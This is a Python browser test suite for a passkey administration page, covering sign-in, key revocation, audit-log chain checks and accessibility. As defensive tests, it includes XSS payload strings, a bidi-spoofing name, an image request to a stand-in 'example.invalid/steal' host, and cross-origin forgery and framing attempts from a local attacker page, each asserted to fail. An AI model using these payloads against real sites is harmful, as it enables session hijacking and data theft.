# SPDX-License-Identifier: Apache-2.0
"""The page of the administration in headless Chromium: signing in, reading, revoking, and what a person needs."""
import contextlib
import hashlib
import http.server
import json
import sqlite3
import struct
import threading
import time
import unittest

from administration import AdministrationServer
from page import CHECK, Page
from passkey import AttestedPasskey
from server import Device, counted, text

SCRIPT = "<script>document.title = 'owned'</script><img src=x onerror=\"document.title='owned'\">"
BIDI = "ada\u202egro.elpmaxe\u202c"


def ignoring(messages, *parts):
    """Messages of the console that no part explains. Chromium reports each refused request as an error."""
    return [message for message in messages if not any(part in message for part in parts)]


def add_nodes(database):
    """Chains of two nodes, of which the second one has copied the head of the first."""
    now, heads = int(time.time()), {}
    for node in ("berlin-1", "berlin-2"):
        previous = bytes(32)
        rows = [("code", f"p{number:021}", b"", "") for number in range(3)]
        if heads:
            number, copied = heads["berlin-1"]
            rows.append(("head", "", copied, f"{number} berlin-1"))
        for number, (event, user, key, detail) in enumerate(rows, 1):
            fields = [event.encode(), user.encode(), key, detail.encode()]
            message = b"latchkey audit 2\0" + counted(node.encode()) + previous + struct.pack(">qq", number, now)
            previous = hashlib.sha256(message + b"".join(map(counted, fields))).digest()
            database.execute("INSERT INTO audit (node, number, time, event, user, key, detail, hash)"
                             " VALUES (?, ?, ?, ?, ?, ?, ?, ?)", (node, number, now, event, user, key, detail, previous))
        heads[node] = len(rows), previous


class SigningInTests(unittest.TestCase):
    def test_the_first_administrator_enrols_with_a_code_and_signs_in_with_the_passkey(self):
        with AdministrationServer() as server, Page(server) as page:
            page.authenticator()
            code = server.command("administrator", "ada").splitlines()[0]
            page.open()
            page.enroll("ada", code[:4] + "-" + code[4:8].lower() + " " + code[8:].lower(), "laptop of Ada")
            page.wait("#status", "Your passkey is registered")
            page.click("button", "Sign in with a passkey")
            page.wait("#account", "Signed in as ada")
            page.wait("table", "ada")
            # No script has the cookie, and the next page has it.
            self.assertEqual(page.run("return document.cookie"), "")
            page.view("user/ada", "ada")
            row = page.wait("tbody tr", "laptop of Ada")
            self.assertIsNotNone(row)
            self.assertIn("Passkey", page.text())
            self.assertIn("Nothing", page.text())
            # What the authenticator claims.
            self.assertIn("not attested", page.text())
            self.assertRegex(page.text(), "model ")
            # The server accepts keys of P-256 only, which the browser finds worth a warning.
            self.assertEqual(ignoring(page.console(), "status of 401", "pubKeyCredParams"), [])
            page.click("button", "Sign out")
            page.wait("#status", "You have signed out")
            page.click("button", "Sign in with a passkey")
            page.wait("#account", "Signed in as ada")
            # The passkey signs what it permits, without another question of the page.
            page.view("users", "Users")
            page.click("button", "Make an enrolment code…")
            page.type("#field-invited", "bob")
            page.click("dialog button", "Make the code")
            page.wait("dialog output")

    def test_a_wrong_code_a_spent_one_and_a_cancelled_passkey_are_explained(self):
        with AdministrationServer() as server, Page(server) as page:
            authenticator = page.authenticator()
            server.command("administrator", "ada")
            page.open()
            page.enroll("ada", "000000000000")
            page.wait("#problem", "make another one")
            # The page still works.
            code = server.command("code", "ada")
            page.run("document.getElementById('field-code').value = ''")
            page.type("#field-code", code)
            page.click("button", "Make a passkey")
            page.wait("#status", "Your passkey is registered")
            page.send("POST", f"/webauthn/authenticator/{authenticator}/uv", {"isUserVerified": False})
            page.click("button", "Sign in with a passkey")
            page.wait("#problem", "Try again")
            device = server.administrator("bob")
            spent = server.browser_code(device)
            page.open("#code=" + spent)
            page.wait("h1", "Sign in as bob?")
            page.click("main button", "Sign in")
            page.wait("#account", "Signed in as bob")
            page.click("button", "Sign out")
            page.wait("#status", "You have signed out")
            page.open()
            page.run("location.hash = 'code=' + arguments[0]", spent)
            page.wait("#problem", "make another one")

    def test_the_code_of_a_program_leaves_the_address_and_names_the_user_before_it_is_used(self):
        with AdministrationServer() as server, Page(server) as page:
            device = server.administrator()
            page.open("#code=" + server.browser_code(device))
            page.wait("h1", "Sign in as ada?")
            self.assertEqual(page.url(), server.origin + "/admin")
            self.assertEqual(page.run("return history.length > 0 && !performance.getEntriesByType('resource')"
                                      ".some(entry => entry.name.includes('code='))"), True)
            page.click("button", "Cancel")
            page.wait("h1", "Sign in")
            self.assertIsNone(page.find("#account"))
            with contextlib.closing(sqlite3.connect(server.folder / "server.sqlite")) as database:
                self.assertEqual(database.execute("SELECT count(*) FROM sessions WHERE browser = 1").fetchone(), (0,))

    def test_a_passkey_of_another_user_opens_nothing(self):
        with AdministrationServer() as server, Page(server) as page:
            page.authenticator()
            page.open()
            page.enroll("eve", server.command("code", "eve"))
            page.wait("#status", "Your passkey is registered")
            page.click("button", "Sign in with a passkey")
            page.wait("#problem", "no administrator")
            self.assertIsNone(page.find("#account"))

    def test_a_session_that_ended_on_the_server_leaves_nothing_on_the_screen(self):
        with AdministrationServer() as server, Page(server) as page:
            device = server.administrator("ada")
            page.sign_in(device)
            server.command("administrator", "ada", "--remove")
            page.click("nav a", "Sessions")
            page.wait("#status", "Your session has ended")
            page.wait("h1", "Sign in")
            self.assertNotIn("ada", page.run("return document.body.innerText"))

    def test_signing_out_in_one_tab_empties_the_other(self):
        with AdministrationServer() as server, Page(server) as page:
            page.sign_in(server.administrator("ada"))
            first, second = page.tabs()
            second()
            page.open()
            page.wait("#account", "Signed in as ada")
            first()
            page.click("button", "Sign out")
            page.wait("#status", "You have signed out.")
            second()
            page.wait("#status", "You have signed out in another tab.")
            page.wait("h1", "Sign in")
            self.assertNotIn("ada", page.text())

    def test_signing_in_as_another_user_in_one_tab_is_shown_in_the_other(self):
        with AdministrationServer() as server, Page(server) as page:
            page.sign_in(server.administrator("ada"))
            first, second = page.tabs()
            second()
            page.sign_in(server.administrator("bob"))
            first()
            page.wait("#account", "Signed in as bob")


class NamesTests(unittest.TestCase):
    def test_scripts_in_names_are_shown_as_text(self):
        with AdministrationServer() as server, Page(server) as page:
            device = server.administrator("ada")
            names = [SCRIPT, BIDI, "\u0000".replace("\0", "\u0001") + "bell", " ", "__proto__", "a/b?c#d%25", "\"'`${1}",
                     "x" * 128, "\U0001f469\u200d\U0001f4bb", "אבג"]
            for name in names:
                victim = Device(server, name)
                code = server.command("code", "--", name)
                body = victim.registration(code) | {"device": SCRIPT[:60]}
                self.assertEqual(server.post("/v1/keys", body)[0], 201, name)
                self.assertEqual(victim.sign_in()[0], 201)
            page.sign_in(device)
            for view, heading in (("users", "Users"), ("keys", "Devices and keys"), ("sessions", "Sessions"),
                                  ("audit", "Audit log")):
                page.view(view, heading)
                self.assertEqual(page.run("return document.querySelectorAll('main script, main img, main iframe').length"), 0)
                self.assertNotEqual(page.run("return document.title"), "owned")
                self.assertNotRegex(page.run("return document.body.textContent"), "[\u202a-\u202e\u2066-\u2069\x01]")
            page.view("users", "Users")
            self.assertIn("U+202E", page.text())
            self.assertIn(SCRIPT, page.run("return document.body.textContent"))
            # Each name leads to its own page.
            for name in names:
                page.run("location.hash = '#/users'")
                page.wait("h1", "Users")
                page.loaded()
                index = page.run("return Array.from(document.querySelectorAll('tbody a')).findIndex("
                                 "link => decodeURIComponent(link.hash.slice(7)) === arguments[0])", name)
                self.assertGreaterEqual(index, 0, name)
                page.run("document.querySelectorAll('tbody a')[arguments[0]].click()", index)
                page.wait("h2", "Recent events")
                self.assertNotEqual(page.run("return document.title"), "owned")
            self.assertEqual(ignoring(page.console(), "status of 401"), [])

    def test_the_policy_stops_script_that_gets_into_the_page(self):
        with AdministrationServer() as server, Page(server) as page:
            page.open()
            page.wait("h1", "Sign in")
            refused = page.run("""
                try {
                    document.body.innerHTML = "<img src=x onerror='window.owned = true'>";
                    return "markup was accepted";
                } catch (error) {
                    return error.name;
                }""")
            self.assertEqual(refused, "TypeError")
            page.run("""
                const script = document.createElement("script");
                try { script.textContent = "window.owned = true"; document.body.append(script); } catch {}
                const image = document.createElement("img");
                image.src = "https://example.invalid/steal?" + document.title;
                document.body.append(image);""")
            page.until(lambda: any("Content Security Policy" in line for line in page.console()), "a refusal")
            self.assertIsNone(page.run("return window.owned ?? null"))
            # The style sheet of the page is permitted by its digest, and no other one.
            self.assertEqual(page.run("""
                const style = document.createElement("style");
                style.textContent = "main { display: none; }";
                document.head.append(style);
                document.body.setAttribute("style", "display: none");
                return ["main", "body"].map(name => getComputedStyle(document.querySelector(name)).display);"""), ["block", "block"])
            self.assertNotEqual(page.run("return getComputedStyle(document.querySelector('header')).backgroundColor"),
                                "rgba(0, 0, 0, 0)")
            for address in ("https://example.invalid/", "http://127.0.0.1:1/"):
                self.assertEqual(page.run_async(
                    "const done = arguments[1]; fetch(arguments[0]).then(() => done('sent'), error => done(error.name))",
                    address), "TypeError")


class Attacker(http.server.BaseHTTPRequestHandler):
    """A page of another origin without any policy. On localhost it is the same site, so that cookies are sent to it."""

    def do_GET(self):
        data = self.server.page.encode()
        self.send_response(200)
        self.send_header("Content-Type", "text/html; charset=utf-8")
        self.send_header("Content-Length", str(len(data)))
        self.end_headers()
        self.wfile.write(data)

    def log_message(self, *_):
        pass


@contextlib.contextmanager
def attacker(page):
    """The address of a server with this page."""
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Attacker)
    server.page = page
    thread = threading.Thread(target=server.serve_forever)
    thread.start()
    try:
        yield f"http://localhost:{server.server_port}/"
    finally:
        server.shutdown()
        thread.join()
        server.server_close()


class ForgeryTests(unittest.TestCase):
    def test_a_page_of_another_origin_can_neither_send_a_request_nor_read_a_reply(self):
        with AdministrationServer() as server, Page(server) as page, attacker("<h1>Kittens</h1>") as address:
            page.sign_in(server.administrator("ada"))
            victim = server.device("victim")
            page.go(address)
            outcome = page.run_async("""
                const [origin, done] = arguments;
                const body = JSON.stringify({ user: "victim", target: "user" });
                const send = options => fetch(origin + "/admin/api/revoke",
                    { method: "POST", credentials: "include", body, ...options }).then(reply => reply.type, () => "refused");
                const marked = { "Content-Type": "application/json", "X-Latchkey-Administration": "1" };
                const image = new Promise(resolve => {
                    const made = document.createElement("script");
                    made.onload = () => resolve("loaded");
                    made.onerror = () => resolve("refused");
                    made.src = origin + "/admin/dom.js";
                    document.body.append(made);
                });
                Promise.all([
                    send({ mode: "no-cors", headers: { "Content-Type": "text/plain" } }), send({ headers: marked }),
                    send({ headers: { "Content-Type": "application/json" } }), image,
                    fetch(origin + "/admin/api/users", { credentials: "include" }).then(() => "read", () => "refused"),
                    navigator.sendBeacon(origin + "/admin/api/revoke", body) ? "sent" : "refused",
                ]).then(done);""", server.origin)
            # What a page may send without asking is sent, and the server refuses it; everything else the browser refuses.
            self.assertEqual(outcome[1:3], ["refused", "refused"])
            self.assertEqual(outcome[4], "refused")
            page.until(lambda: sum('"/admin/api/revoke"' in line and '"status":4' in line
                                   for line in server.written().splitlines()) >= 2, "two refusals")
            self.assertNotIn('"/admin/api/revoke","status":2', server.written())
            self.assertEqual(victim.sign_in()[0], 201)
            # The administrator is signed in all the same.
            page.open()
            page.wait("#account", "Signed in as ada")

    def test_a_forged_form_has_no_effect(self):
        body = json.dumps({"user": "victim", "target": "user", "": "@"}).split('"@"')
        with AdministrationServer() as server, Page(server) as page:
            form = (f"<form method=post enctype=text/plain action={server.origin}/admin/api/revoke>"
                    f"<input name='{body[0]}' value='{body[1]}'></form>")
            page.sign_in(server.administrator("ada"))
            victim = server.device("victim")
            with attacker(form) as address:
                page.go(address)
                page.run("document.forms[0].submit()")
                page.until(lambda: "/admin/api/revoke" in page.url(), "the reply")
                self.assertIn('"status":403', page.text())
            self.assertEqual(victim.sign_in()[0], 201)

    def test_the_page_is_shown_in_no_frame(self):
        with AdministrationServer() as server, Page(server) as page:
            with attacker(f"<iframe src='{server.origin}/admin'></iframe>") as address:
                page.go(address)
                page.until(lambda: any("frame-ancestors" in line or "X-Frame-Options" in line for line in page.console()),
                           "a refusal")


class ActsTests(unittest.TestCase):
    def test_a_key_is_revoked_after_a_question_that_names_what_happens(self):
        with AdministrationServer() as server, Page(server) as page:
            page.sign_in(server.administrator("ada"))
            victim = server.device("victim")
            page.view("user/victim", "victim")
            page.click("button", "Revoke key…")
            page.wait("dialog h2", "Revoke this key of victim?")
            self.assertIn("This cannot be undone", page.text())
            # The question can be left by the keyboard, and Cancel has the focus.
            self.assertEqual(page.run("return document.activeElement.textContent"), "Cancel")
            page.press("escape")
            page.until(lambda: not page.find("dialog"), "the end of the dialog")
            self.assertEqual(victim.sign_in()[0], 201)
            page.click("button", "Revoke key…")
            page.click("dialog button", "Revoke the key")
            page.wait("#status", "1 key of victim was revoked.")
            page.wait("tbody", "Revoked")
            self.assertEqual(victim.sign_in()[0], 401)

    def test_sessions_end_codes_are_made_once_and_frozen_keys_come_back(self):
        with AdministrationServer() as server, Page(server) as page:
            page.sign_in(server.administrator("ada"))
            victim = server.device("victim")
            for counter in (7, 7):
                proof = victim.proof()
                victim.server.post("/v1/sessions", proof | {
                    "counter": counter, "signature": text(victim.sign(victim.signed + counter.to_bytes(8, "big")))})
            page.view("keys", "Devices and keys")
            page.click("label", "Frozen")
            page.loaded()
            page.wait("tbody", "victim")
            self.assertNotIn("ada", page.run("return document.querySelector('tbody').textContent"))
            page.click("tbody a", "victim")
            page.click("button", "Unfreeze…")
            page.click("dialog button", "Unfreeze the key")
            page.prove()
            page.wait("#status", "can be used again")
            self.assertEqual(victim.sign_in()[0], 201)
            page.view("users", "Users")
            page.view("user/victim", "victim")
            page.click("button", "End all sessions…")
            page.click("dialog button", "End the sessions")
            page.wait("#status", "of victim ended")
            page.click("button", "Make an enrolment code…")
            page.click("dialog button", "Make the code")
            page.prove()
            code = page.wait("dialog output") and page.run("return document.querySelector('dialog output').textContent")
            page.click("dialog button", "Done")
            page.wait("#status", "An enrolment code for victim was made.")
            self.assertNotIn(code, page.run("return document.body.textContent"))
            second = Device(server, "victim")
            self.assertEqual(server.post("/v1/keys", second.registration(code))[0], 201)
            rows = server.command("audit")
            self.assertIn("unchanged", rows)

    def test_the_chain_is_verified_in_the_browser_and_the_first_wrong_row_is_shown(self):
        with AdministrationServer() as server, Page(server) as page:
            page.sign_in(server.administrator("ada"))
            for _ in range(3):
                server.command("code", "é\u202e")
            page.view("audit", "Audit log")
            page.wait(".notice.good", "The chain is unbroken")
            path = server.folder / "server.sqlite"
            for change, words in (("UPDATE audit SET time = time + 1 WHERE number = 5", "Row 5 was changed."),
                                  ("DELETE FROM audit WHERE number = 4", "Row 4 is missing.")):
                with contextlib.closing(sqlite3.connect(path)) as database, database:
                    database.execute(change)
                page.click("button", "Verify the chain")
                page.wait(".notice.problem", words)
                # What was changed is shown with both hashes; what is missing has none.
                self.assertEqual("Computed hash" in page.text(), "changed" in words)


    def test_new_rows_are_verified_while_the_log_is_shown_and_prolong_no_session(self):
        with AdministrationServer() as server, Page(server) as page:
            page.sign_in(server.administrator("ada"))
            page.view("audit", "Audit log")
            page.wait(".notice.good", "The chain is unbroken")
            database = sqlite3.connect(server.folder / "server.sqlite", timeout=20)
            with contextlib.closing(database):
                def change(statement, *values):
                    with database:
                        return database.execute(statement, values).fetchone()
                # The use of a session is written down after a tenth of the idle time.
                change("UPDATE sessions SET used = used - 300 WHERE browser = 1")
                before = change("SELECT used FROM sessions WHERE browser = 1")
                last = change("SELECT max(number) FROM audit")[0]
                server.command("code", "new-user")
                page.wait("main", f"{last + 1} rows were verified in this browser")
                page.wait("tbody", "new-user")
                self.assertIsNotNone(page.find(".notice.good", "The chain is unbroken"))
                self.assertEqual(change("SELECT used FROM sessions WHERE browser = 1"), before)
                # A row of somebody who writes the database, and one that they remove.
                change("INSERT INTO audit SELECT node, number + 1, time, event, user, key, detail, hash FROM audit WHERE number = ?",
                       last + 1)
                page.wait(".notice.problem", f"Row {last + 2} was changed.")
                change("DELETE FROM audit WHERE number > ?", last + 1)
                page.click("button", "Verify the chain")
                page.wait(".notice.good", "The chain is unbroken")
                change("DELETE FROM audit WHERE number = ?", last + 1)
                page.wait(".notice.problem", f"Row {last + 1} is missing.")
                # The end of the session is noticed, although the user does nothing.
                page.view("users", "Users")
                page.view("audit", "Audit log")
                page.wait(".notice.good", "The chain is unbroken")
                change("UPDATE sessions SET used = used - 901 WHERE browser = 1")
                page.wait("#status", "Your session has ended")
                self.assertNotIn("ada", page.text())

    def test_a_verified_chain_that_is_gone_is_missing(self):
        with AdministrationServer() as server, Page(server) as page:
            page.sign_in(server.administrator("ada"))
            with contextlib.closing(sqlite3.connect(server.folder / "server.sqlite")) as database, database:
                add_nodes(database)
            page.view("audit", "Audit log")
            page.wait(".notice.good", "The chain is unbroken")
            # The other chain has copied nothing of this one, so that only its absence shows it.
            with contextlib.closing(sqlite3.connect(server.folder / "server.sqlite")) as database, database:
                database.execute("DELETE FROM audit WHERE node = 'berlin-2'")
            page.wait(".notice.problem", "Row 1 of node berlin-2 is missing.")


class PeopleTests(unittest.TestCase):
    def check(self, page, name):
        for dark in (False, True):
            for width in (1280, 390, 320):
                page.media(dark)
                page.size(width, 900)
                found = page.run(CHECK)
                self.assertEqual(found["faults"], [], f"{name}, {'dark' if dark else 'light'}, {width}")
        page.size(1280, 900)
        page.media()
        page.photograph(name)

    def test_every_view_is_accessible_light_dark_and_narrow(self):
        with AdministrationServer() as server, Page(server) as page:
            page.authenticator()
            page.open()
            page.wait("h1", "Sign in")
            self.check(page, "01-sign-in")
            page.click("summary", "by hand")
            self.check(page, "02-code-by-hand")
            page.click("button", "Use an enrolment code")
            self.check(page, "03-enrolment")
            page.type("#field-user", "ada")
            page.type("#field-code", "0000")
            page.type("#field-device", "laptop")
            page.click("button", "Make a passkey")
            page.wait("#problem")
            self.check(page, "04-refused")
            page.device = server.administrator("ada")
            page.open("#code=" + server.browser_code(page.device))
            page.wait("h1", "Sign in as ada?")
            self.check(page, "05-confirm")
            page.click("main button", "Sign in")
            page.wait("#account", "Signed in as")
            page.view("sessions", "Sessions")
            self.populate(server)
            page.view("users", "Users")
            self.check(page, "06-users")
            page.type("#field-prefix", "unknown-user")
            page.wait(".empty", "no such user")
            self.check(page, "07-no-user")
            page.view("keys", "Devices and keys")
            for words in ("attested by a certificate", "model 00010203-0405-0607-0809-0a0b0c0d0e0f"):
                page.wait("tbody", words)
            self.check(page, "08-keys")
            page.view("sessions", "Sessions")
            self.check(page, "09-sessions")
            page.view("audit", "Audit log")
            page.wait(".notice.good")
            self.check(page, "10-audit")
            page.view("user/grace", "grace")
            self.check(page, "11-user")
            page.click("button", "Revoke the user…")
            page.wait("dialog h2", "Revoke all keys of")
            self.check(page, "12-revoke")
            page.press("escape")
            page.click("button", "Unfreeze…")
            page.wait("dialog h2", "Let the frozen key be used again?")
            self.check(page, "15-unfreeze")
            page.press("escape")
            page.click("button", "End all sessions…")
            page.wait("dialog h2", "End all sessions")
            self.check(page, "16-end-sessions")
            page.press("escape")
            page.click("button", "Make an enrolment code…")
            page.click("dialog button", "Make the code")
            page.wait("dialog h2", "Confirm with your key")
            self.check(page, "24-confirm")
            page.prove()
            page.wait("dialog output")
            self.check(page, "13-code")
            page.press("escape")
            with contextlib.closing(sqlite3.connect(server.folder / "server.sqlite")) as database, database:
                database.execute("UPDATE audit SET detail = 'user, attested tpm' WHERE number = 4")
            page.view("audit", "Audit log")
            page.wait(".notice.problem", "was changed")
            self.check(page, "14-broken-chain")
            page.view("user/unknown-user", "unknown-user")
            page.wait(".empty", "Nothing is stored of this user.")
            self.check(page, "17-unknown-user")
            page.view("sessions", "Sessions")
            page.click("tbody button", "End")
            page.wait("dialog h2", "End a session of")
            self.check(page, "18-end-session")

    def test_every_view_of_several_nodes_is_accessible(self):
        with AdministrationServer() as server, Page(server) as page:
            page.sign_in(server.administrator("ada"))
            server.device("grace")
            with contextlib.closing(sqlite3.connect(server.folder / "server.sqlite")) as database, database:
                add_nodes(database)
            page.view("audit", "Audit log")
            page.wait(".notice.good", "The chain is unbroken")
            page.wait("label", "Chain of node")
            self.check(page, "19-audit-of-nodes")
            page.run("const choice = document.querySelector('#node'); choice.value = 'berlin-2';"
                     "choice.dispatchEvent(new Event('change'))")
            page.wait("tbody", "The end of another node’s log was copied")
            self.check(page, "20-audit-of-one-node")
            with contextlib.closing(sqlite3.connect(server.folder / "server.sqlite")) as database, database:
                database.execute("DELETE FROM audit WHERE node = 'berlin-1' AND number = 3")
            page.click("button", "Verify the chain")
            page.wait(".notice.problem", "Row 3 of node berlin-1 is missing.")
            self.check(page, "21-broken-chain-of-a-node")

    def test_every_view_of_the_end_of_a_session_is_accessible(self):
        with AdministrationServer(session_idle_seconds=40) as server, Page(server) as page:
            page.sign_in(server.administrator("ada"))
            page.wait("#idle", "You will be signed out soon", 40)
            self.check(page, "22-idle")
            page.wait("#status", "Your session has ended", 40)
            self.check(page, "23-session-ended")

    def populate(self, server):
        """Users with keys of every state, as rows: their keys need not sign."""
        grace = server.device("grace")
        server.device("grace")
        server.command("revoke", "grace", "key", text(server.device("grace").id))
        for name in ("alan", BIDI, "barbara", "an.unusually.long.name.of.a.user.whose.employer.likes.long.names@example.com"):
            server.device(name)
        for counter in (7, 7):
            proof = grace.proof()
            server.post("/v1/sessions", proof | {
                "counter": counter, "signature": text(grace.sign(grace.signed + counter.to_bytes(8, "big")))})
        with contextlib.closing(sqlite3.connect(server.folder / "server.sqlite")) as database, database:
            database.execute("UPDATE keys SET tier = 'tpm', attested = 'tpm', model = 'STM ST33KTPM2X', "
                             "verification = 'pin' WHERE user = 'alan'")
            database.execute("UPDATE keys SET attested = 'virtual-tpm', model = 'QEMU' WHERE user = 'barbara'")
        passkey = AttestedPasskey(server, "alan").certify()
        passkey.origin = server.origin
        passkey.register()

    def test_everything_can_be_done_with_the_keyboard_in_the_order_of_the_page(self):
        with AdministrationServer() as server, Page(server) as page:
            page.sign_in(server.administrator("ada"))
            victim = server.device("victim")
            page.view("users", "Users")
            page.run("document.activeElement.blur()")
            visited = []
            page.run("scrollTo(0, 0); document.body.tabIndex = -1; document.body.focus(); document.body.removeAttribute('tabindex')")
            for _ in range(40):
                page.press("tab")
                found = page.run("""
                    const element = document.activeElement;
                    if (element === document.body) return null;
                    const style = getComputedStyle(element);
                    const all = Array.from(document.querySelectorAll("*"));
                    return { text: (element.textContent || element.name || element.id).trim(), place: all.indexOf(element),
                             outline: style.outlineStyle !== "none" && parseFloat(style.outlineWidth) >= 2 };""")
                if found is None:
                    break
                visited.append(found)
            self.assertEqual(visited[0]["text"], "Skip to the content")
            self.assertEqual([each["place"] for each in visited], sorted(each["place"] for each in visited))
            self.assertTrue(all(each["outline"] for each in visited), visited)
            names = [each["text"] for each in visited]
            for wanted in ("Users", "Audit log", "Sign out", "prefix", "Make an enrolment code…", "ada", "victim", "Next"):
                self.assertIn(wanted, names)
            # The skip link leads to the content.
            page.run("document.querySelector('.skip').focus()")
            page.press("enter")
            self.assertEqual(page.run("return document.activeElement.id"), "main")
            # By keyboard only: the user, the button, the question, and the act.
            page.run("Array.from(document.querySelectorAll('tbody a')).find(link => link.textContent === 'victim').focus()")
            page.press("enter")
            page.wait("h1", "victim")
            self.assertEqual(page.run("return document.activeElement.localName"), "h1")
            page.until(lambda: (page.press("tab"), page.run("return document.activeElement.textContent"))[1]
                       == "Revoke the user…", "the button")
            page.press("enter")
            page.wait("dialog h2")
            page.press("tab", "enter")
            page.wait("#status", "was revoked")
            self.assertEqual(victim.sign_in()[0], 401)

    def test_a_list_that_changes_while_it_is_paged_shows_every_row_once(self):
        with AdministrationServer() as server, Page(server) as page:
            page.sign_in(server.administrator("m-ada"))
            with contextlib.closing(sqlite3.connect(server.folder / "server.sqlite")) as database, database:
                database.executemany("INSERT INTO users VALUES (?, ?)",
                                     [(f"user{index:04}", f"p{index:021}") for index in range(120)])
            page.view("users", "Users")
            shown = page.run("return Array.from(document.querySelectorAll('tbody th'), cell => cell.textContent)")
            with contextlib.closing(sqlite3.connect(server.folder / "server.sqlite")) as database, database:
                database.execute("DELETE FROM users WHERE user = ?", (shown[-1],))
                database.execute("INSERT INTO users VALUES ('a-new', 'n')")
            page.click("button", "Next")
            page.wait("nav span", "Page 2")
            shown += page.run("return Array.from(document.querySelectorAll('tbody th'), cell => cell.textContent)")
            page.click("button", "Next")
            page.wait("nav span", "Page 3")
            shown += page.run("return Array.from(document.querySelectorAll('tbody th'), cell => cell.textContent)")
            self.assertEqual(shown, ["m-ada"] + [f"user{index:04}" for index in range(120)])
            self.assertEqual(page.run("return document.querySelector('main nav button:nth-child(2)').ariaDisabled"), "true")
            page.click("button", "Previous")
            page.wait("nav span", "Page 2")

    def test_no_script_says_what_to_do(self):
        with AdministrationServer() as server, Page(server) as page:
            page.protocol("Emulation.setScriptExecutionDisabled", value=True)
            page.open()
            page.until(lambda: "The commands of latchkey-server(8) do the same" in page.text(), "the words")

    def test_the_end_of_a_session_is_announced_and_can_be_put_off(self):
        with AdministrationServer(session_idle_seconds=8) as server, Page(server) as page:
            page.sign_in(server.administrator("ada"))
            page.wait("#idle", "You will be signed out soon")
            page.click("#idle button", "Stay signed in")
            page.until(lambda: not page.find("#idle"), "the end of the announcement")
            self.assertIsNotNone(page.find("#account", "Signed in as ada"))
            page.wait("#idle", "You will be signed out soon")
            page.wait("#status", "Your session has ended")
            page.wait("h1", "Sign in")
            self.assertNotIn("ada", page.text())
